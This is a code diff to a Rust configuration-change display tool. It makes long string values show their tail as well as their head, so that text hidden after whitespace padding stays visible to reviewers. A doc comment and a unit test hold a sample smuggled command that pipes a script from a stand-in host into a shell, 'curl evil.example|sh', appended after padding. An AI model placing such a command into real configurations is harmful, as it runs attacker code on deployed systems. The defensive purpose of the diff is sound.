@@ -131,12 +131,34 @@ fn bare(s: &str) -> bool {
         && s.parse::<f64>().is_err()
 }
 
+/// `s` at most [`MAX_SHOWN_CHARS`] characters: its head and its tail around `…` (what is appended after
+/// padding is shown: `--config=a.yaml<2,000 spaces>; curl evil|sh` does not end at the padding), and whether
+/// it was cut.
+pub fn head_tail(s: &str, max: usize) -> (String, bool) {
+    let n = s.chars().count();
+    if n <= max {
+        return (s.to_string(), false);
+    }
+    let half = max / 2;
+    let head: String = s.chars().take(half).collect();
+    let tail: String = s.chars().skip(n - half).collect();
+    (format!("{head}…{tail}"), true)
+}
+
 /// A value as [`FieldChange`]'s `Display` shows it.
 fn shown(v: &Value) -> String {
     match v {
-        Value::String(s) if bare(s) => cut(s.chars().take(MAX_SHOWN_CHARS + 1).collect()),
         Value::String(s) => {
-            cut(Value::String(s.chars().take(MAX_SHOWN_CHARS + 1).collect()).to_string())
+            let (text, was_cut) = head_tail(s, MAX_SHOWN_CHARS);
+            let mut out = if bare(s) {
+                text
+            } else {
+                Value::String(text).to_string()
+            };
+            if was_cut {
+                out.push_str(&format!(" ({} characters)", s.chars().count()));
+            }
+            out
         }
         other => cut(json_prefix(other)),
     }
@@ -458,6 +480,22 @@ mod tests {
     fn deployment(containers: Value) -> Value {
         json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "api"},
                "spec": {"template": {"spec": {"containers": containers}}}})
+    }
+
+    #[test]
+    fn a_long_value_shows_its_tail_too() {
+        let padded = format!("--config=a.yaml{}; curl evil.example|sh", " ".repeat(3000));
+        let c = changes(&json!({"args": ["x"]}), &json!({"args": [padded]}), true);
+        let line = c[0].to_string();
+        assert!(
+            line.ends_with(&format!(
+                "curl evil.example|sh\" ({} characters)",
+                padded.chars().count()
+            )),
+            "{line}"
+        );
+        assert!(line.contains("--config=a.yaml"), "{line}");
+        assert!(line.len() < 400, "{line}");
     }
 
     #[test]
